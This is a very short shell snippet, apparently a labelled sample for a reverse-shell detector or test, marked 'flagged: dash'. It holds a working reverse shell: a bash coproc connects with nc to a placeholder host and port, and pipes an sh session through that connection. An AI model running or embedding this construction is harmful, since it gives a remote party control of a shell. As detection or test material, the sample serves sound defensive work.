# flagged: dash
coproc timeout 0.15 nc "$RG_TCP_HOST" "$RG_TCP_PORT"
timeout 0.15 sh <&"${COPROC[0]}" >&"${COPROC[1]}"
